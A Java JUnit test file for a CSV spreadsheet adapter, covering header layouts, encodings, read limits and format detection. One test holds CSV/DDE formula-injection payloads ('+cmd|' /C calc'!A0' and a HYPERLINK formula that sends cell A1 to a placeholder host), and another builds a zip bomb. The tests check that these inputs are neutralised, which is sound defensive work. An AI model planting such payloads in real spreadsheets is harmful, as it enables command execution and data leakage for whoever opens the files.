package org.jisr.adapter.csv;

import static org.assertj.core.api.Assertions.assertThat;

import java.io.ByteArrayOutputStream;
import java.nio.charset.Charset;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.time.LocalDate;
import java.util.List;
import java.util.Map;
import java.util.zip.ZipEntry;
import java.util.zip.ZipOutputStream;
import org.jisr.model.Event;
import org.jisr.model.ExchangeDocument;
import org.jisr.spi.AdapterInput;
import org.jisr.testkit.tck.RecordingContext;
import org.jisr.validation.Finding;
import org.jisr.validation.ReadLimits;
import org.jisr.validation.Severity;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/** Each kind of messiness of real spreadsheets, in a CSV file made for it. */
class MessyCsvTest {

    private static final String HEADER = "Identifiant;Type;Titre (fr);Début";

    private static ExchangeDocument read(String name, byte[] bytes, RecordingContext context) {
        return Bundles.read(new CsvFrAdapter(), AdapterInput.of(name, bytes), context);
    }

    private static ExchangeDocument read(String text, RecordingContext context) {
        return read("agenda.csv", text.getBytes(StandardCharsets.UTF_8), context);
    }

    private static Finding finding(RecordingContext context, String code) {
        return context.findings().stream().filter(f -> f.code().equals(code)).findFirst()
                .orElseThrow(() -> new AssertionError("no " + code + " in " + context.findings()));
    }

    @Test
    void a_two_row_header_with_group_titles_above_the_column_names() {
        RecordingContext context = new RecordingContext();
        ExchangeDocument doc = read("Agenda 2024;;;;\n;;Titre;;Période\nIdentifiant;Type;(fr);(ar);Début\n"
                + "event-1;Atelier;Atelier;ورشة;10/12/2024\n", context);

        assertThat(context.errors()).isEmpty();
        Event e = doc.recordsOf(Event.class).findFirst().orElseThrow();
        assertThat(e.title().texts()).containsEntry("fr", "Atelier").containsEntry("ar", "ورشة");
        assertThat(finding(context, "adapter.spreadsheet-two-row-header").location().cell()).isEqualTo("A3");
        assertThat(finding(context, "adapter.spreadsheet-title-rows").parameters()).containsEntry("rows", "2");
    }

    @Test
    void a_spreadsheet_serial_number_in_a_date_column() {
        RecordingContext context = new RecordingContext();
        ExchangeDocument doc = read(HEADER + "\nevent-1;Atelier;Atelier;45636\n", context);

        assertThat(doc.recordsOf(Event.class).findFirst().orElseThrow().period().start())
                .isEqualTo(LocalDate.of(2024, 12, 10));
        Finding serial = finding(context, "adapter.spreadsheet-serial-date");
        assertThat(serial.severity()).isEqualTo(Severity.INFO);
        assertThat(serial.location().cell()).isEqualTo("D2");
        assertThat(serial.location().line()).isEqualTo(2);
        assertThat(serial.location().column()).isEqualTo(25);
    }

    @Test
    void problems_are_located_at_their_cell_in_a_cell_that_spans_lines() {
        RecordingContext context = new RecordingContext();
        read(HEADER + "\nevent-1;Atelier;\"Atelier\nsur deux lignes\";hier\n", context);

        Finding bad = finding(context, "adapter.spreadsheet-bad-date");
        assertThat(bad.location().cell()).isEqualTo("D2");
        assertThat(bad.location().line()).isEqualTo(3);
        assertThat(bad.location().column()).isEqualTo(18);
        assertThat(bad.location().toString()).isEqualTo("agenda.csv:3:18 D2");
    }

    @Test
    void unknown_and_duplicate_columns_extra_cells_and_rows_without_id() {
        RecordingContext context = new RecordingContext();
        ExchangeDocument doc = read("Identifiant;Type;Titre (fr);Début;Contact;Type\n"
                + ";Atelier;Atelier;10/12/2024;x@y.fr;Atelier;en trop\n", context);

        assertThat(finding(context, "adapter.spreadsheet-unknown-column").parameters()).containsEntry("column", "Contact");
        assertThat(finding(context, "adapter.spreadsheet-unknown-column").location().cell()).isEqualTo("E1");
        assertThat(finding(context, "adapter.spreadsheet-duplicate-column").location().cell()).isEqualTo("F1");
        assertThat(finding(context, "adapter.spreadsheet-extra-cells").parameters()).containsEntry("cells", "6");
        assertThat(doc.records()).singleElement().satisfies(r -> assertThat(r.id()).isEqualTo("events-2"));
        assertThat(finding(context, "adapter.spreadsheet-generated-id").parameters()).containsEntry("id", "events-2");
    }

    @Test
    void a_line_in_windows_1252_inside_a_utf8_file() {
        ByteArrayOutputStream bytes = new ByteArrayOutputStream();
        bytes.writeBytes((HEADER + "\nevent-1;Atelier;Atelier à Tunis;10/12/2024\n").getBytes(StandardCharsets.UTF_8));
        // Past the first 64 KiB, which decide the encoding.
        for (int i = 0; i < 2000; i++) {
            bytes.writeBytes(("event-x" + i + ";Atelier;Atelier à Tunis;10/12/2024\n").getBytes(StandardCharsets.UTF_8));
        }
        bytes.writeBytes("event-2;Atelier;Atelier à Sousse;11/12/2024\n".getBytes(Charset.forName("windows-1252")));
        RecordingContext context = new RecordingContext();
        ExchangeDocument doc = read("agenda.csv", bytes.toByteArray(), context);

        assertThat(finding(context, "adapter.spreadsheet-encoding").parameters()).containsEntry("encoding", "UTF-8");
        assertThat(finding(context, "adapter.spreadsheet-encoding-switched").location().cell()).isEqualTo("C2003");
        assertThat(doc.recordsOf(Event.class).map(e -> e.title().get("fr").orElseThrow()))
                .hasSize(2002).endsWith("Atelier à Sousse");
    }

    @Test
    void a_tab_separated_file_with_a_byte_order_mark() {
        RecordingContext context = new RecordingContext();
        ExchangeDocument doc = read("\uFEFF" + HEADER.replace(';', '\t') + "\nevent-1\tAtelier\tAtelier\t10/12/2024\n",
                context);

        assertThat(finding(context, "adapter.spreadsheet-encoding").parameters()).containsEntry("encoding",
                "UTF-8 with BOM");
        assertThat(finding(context, "adapter.spreadsheet-separator").parameters()).containsEntry("separator", "TAB");
        assertThat(doc.records()).hasSize(1);
    }

    @Test
    void a_cell_longer_than_the_limit_stops_reading_with_a_finding() {
        // "Identifiant", the longest header, has 11 characters.
        RecordingContext context = new RecordingContext(ReadLimits.DEFAULTS.withMaxCellLength(12), Map.of());
        read(HEADER + "\nevent-1;Atelier;" + "x".repeat(100) + ";10/12/2024\n", context);

        Finding f = finding(context, "adapter.spreadsheet-limit-exceeded");
        assertThat(f.parameters()).containsEntry("limit", "maxCellLength").containsEntry("maximum", "12");
        assertThat(f.location().line()).isEqualTo(2);
    }

    @Test
    void a_cell_of_multibyte_characters_is_measured_in_characters() {
        // 12 Arabic letters are 24 bytes: within 12 characters, over 12 bytes.
        RecordingContext context = new RecordingContext(ReadLimits.DEFAULTS.withMaxCellLength(12), Map.of());
        read(HEADER + "\nevent-1;Atelier;" + "ع".repeat(12) + ";10/12/2024\n", context);
        assertThat(context.findings()).extracting(Finding::code).doesNotContain("adapter.spreadsheet-limit-exceeded");

        RecordingContext thirteen = new RecordingContext(ReadLimits.DEFAULTS.withMaxCellLength(12), Map.of());
        read(HEADER + "\nevent-1;Atelier;" + "ع".repeat(13) + ";10/12/2024\n", thirteen);
        assertThat(finding(thirteen, "adapter.spreadsheet-limit-exceeded").location().cell()).isEqualTo("C2");
    }

    @Test
    void a_row_of_too_many_cells_or_too_long_stops_reading_at_its_cell() {
        RecordingContext columns = new RecordingContext(ReadLimits.DEFAULTS.withMaxColumns(20), Map.of());
        read(HEADER + "\nevent-1;Atelier;Atelier;10/12/2024" + ";".repeat(100) + "\n", columns);
        Finding wide = finding(columns, "adapter.spreadsheet-limit-exceeded");
        assertThat(wide.parameters()).containsEntry("limit", "maxColumns").containsEntry("maximum", "20");
        assertThat(wide.location().cell()).isEqualTo("U2");

        RecordingContext line = new RecordingContext(ReadLimits.DEFAULTS.withMaxLineLength(36), Map.of());
        read(HEADER + "\nevent-1;Atelier;Un atelier de deux jours;10/12/2024\n", line);
        assertThat(finding(line, "adapter.spreadsheet-limit-exceeded").parameters())
                .containsEntry("limit", "maxLineLength").containsEntry("maximum", "36");
    }

    @Test
    void cells_that_start_like_formulas_are_read_as_text_with_a_warning_naming_the_cell() {
        RecordingContext context = new RecordingContext();
        ExchangeDocument doc = read(HEADER
                + "\nevent-1;Atelier;\"=HYPERLINK(\"\"http://example.invalid/?\"\"&A1,\"\"Cliquez\"\")\";10/12/2024"
                + "\nevent-2;Atelier;+cmd|' /C calc'!A0;10/12/2024"
                + "\nevent-3;Atelier;-2+3+cmd|' /C calc'!A0;10/12/2024"
                + "\nevent-4;Atelier;@SUM(1+9)*cmd|' /C calc'!A0;10/12/2024"
                + "\nevent-5;Atelier;'=1+1;10/12/2024"
                + "\nevent-6;Atelier;+216 71 000 000;10/12/2024"
                + "\nevent-7;Atelier;-12.5;10/12/2024\n", context);

        List<Finding> formulas = context.findings().stream()
                .filter(f -> f.code().equals("adapter.spreadsheet-formula-text")).toList();
        assertThat(formulas).extracting(f -> f.location().cell()).containsExactly("C2", "C3", "C4", "C5");
        assertThat(formulas).allSatisfy(f -> assertThat(f.severity()).isEqualTo(Severity.WARNING));
        assertThat(formulas.get(1).parameters()).isEqualTo(Map.of("column", "Titre (fr)",
                "value", "+cmd|' /C calc'!A0"));
        // Read as text, unchanged; the apostrophe a writer put in front is taken away.
        assertThat(doc.records()).extracting(r -> ((Event) r).title().get("fr").orElseThrow()).containsExactly(
                "=HYPERLINK(\"http://example.invalid/?\"&A1,\"Cliquez\")", "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0",
                "@SUM(1+9)*cmd|' /C calc'!A0", "=1+1", "+216 71 000 000", "-12.5");
    }

    @Test
    void a_zip_that_expands_like_a_bomb_is_not_read_past_the_limit() throws Exception {
        ByteArrayOutputStream zip = new ByteArrayOutputStream();
        try (ZipOutputStream out = new ZipOutputStream(zip)) {
            out.putNextEntry(new ZipEntry("Événements.csv"));
            out.write((HEADER + "\n").getBytes(StandardCharsets.UTF_8));
            byte[] line = "event-1;Atelier;Atelier;10/12/2024\n".getBytes(StandardCharsets.UTF_8);
            byte[] spaces = new byte[1 << 20];
            java.util.Arrays.fill(spaces, (byte) ' ');
            out.write(line);
            for (int i = 0; i < 50; i++) {
                out.write(spaces);
            }
            out.closeEntry();
        }
        RecordingContext context = new RecordingContext();
        read("bomb.zip", zip.toByteArray(), context);

        assertThat(finding(context, "adapter.spreadsheet-limit-exceeded").parameters())
                .isEqualTo(Map.of("limit", "maxExpansionRatio", "maximum", "100"));
    }

    @Test
    void a_folder_of_csv_files_is_a_bundle(@TempDir Path dir) throws Exception {
        Files.writeString(dir.resolve("Événements.csv"), HEADER + "\nevent-1;Atelier;Atelier;10/12/2024\n");
        Files.writeString(dir.resolve("README.md"), "# not a table\n");
        Files.writeString(dir.resolve("Organisations.csv"), "Identifiant;Nom (fr);Type\norg-1;CUF;Association\n");
        RecordingContext context = new RecordingContext();
        ExchangeDocument doc = Bundles.read(new CsvFrAdapter(), dir, context);

        assertThat(context.errors()).isEmpty();
        // The folder is read in the mapping's order of tables: organisations before events.
        assertThat(doc.records()).extracting(r -> r.id()).containsExactly("org-1", "event-1");
        assertThat(new CsvFrAdapter().detect(AdapterInput.of(dir)).canRead()).isTrue();
    }

    @Test
    void a_bad_mapping_option_is_a_finding() {
        RecordingContext context = new RecordingContext(ReadLimits.DEFAULTS, Map.of("mapping", "/no/such/mapping.json"));
        ExchangeDocument doc = read(HEADER + "\nevent-1;Atelier;Atelier;10/12/2024\n", context);

        assertThat(doc.records()).isEmpty();
        assertThat(finding(context, "adapter.spreadsheet-bad-mapping").parameters())
                .containsEntry("mapping", "/no/such/mapping.json");
        assertThat(context.errors()).hasSize(1);
    }

    @Test
    void detection_prefers_the_profile_of_the_headers_language() {
        byte[] french = (HEADER + "\n").getBytes(StandardCharsets.UTF_8);
        byte[] arabic = "المعرف;الصنف;العنوان بالعربية;البداية\n".getBytes(StandardCharsets.UTF_8);
        double frOnFrench = new CsvFrAdapter().detect(AdapterInput.of("a.csv", french)).confidence();
        double tnOnFrench = new CsvTnAdapter().detect(AdapterInput.of("a.csv", french)).confidence();
        double frOnArabic = new CsvFrAdapter().detect(AdapterInput.of("a.csv", arabic)).confidence();
        double tnOnArabic = new CsvTnAdapter().detect(AdapterInput.of("a.csv", arabic)).confidence();

        assertThat(frOnFrench).isGreaterThan(tnOnFrench).isGreaterThan(0);
        assertThat(tnOnArabic).isGreaterThan(frOnArabic).isGreaterThan(0);
        assertThat(new CsvFrAdapter().detect(AdapterInput.of("notes.txt", "hello\nworld\n".getBytes(
                StandardCharsets.UTF_8))).canRead()).isFalse();
        assertThat(List.of(frOnFrench, tnOnArabic)).allMatch(c -> c >= 0.9);
    }
}
